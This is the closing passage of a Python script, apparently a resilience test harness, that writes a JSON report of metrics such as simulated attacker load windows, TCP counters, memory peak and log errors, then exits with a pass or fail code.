          f"unloaded; publisher keeps publishing; no descriptor exhaustion)")
    if a.json:
        a.json.write_text(json.dumps({
            "before": before, "loaded": loaded, "after": after, "attacker_loaded_window": [t0, t1],
            "attacker_total": t2, "tcp_ext_loaded": {k: x1[k] - x0.get(k, 0) for k in x1},
            "snapshots": [sv_start, sv_end], "peak_rss_kb": peak_rss, "log_errors": log_errors,
            "load": [load0, load1], "ramp_cpu": ramp_cpu, "pass": all_ok, "args": vars(a),
        }, indent=1, default=str))
    sys.exit(0 if all_ok else 1)


if __name__ == "__main__":
    main()
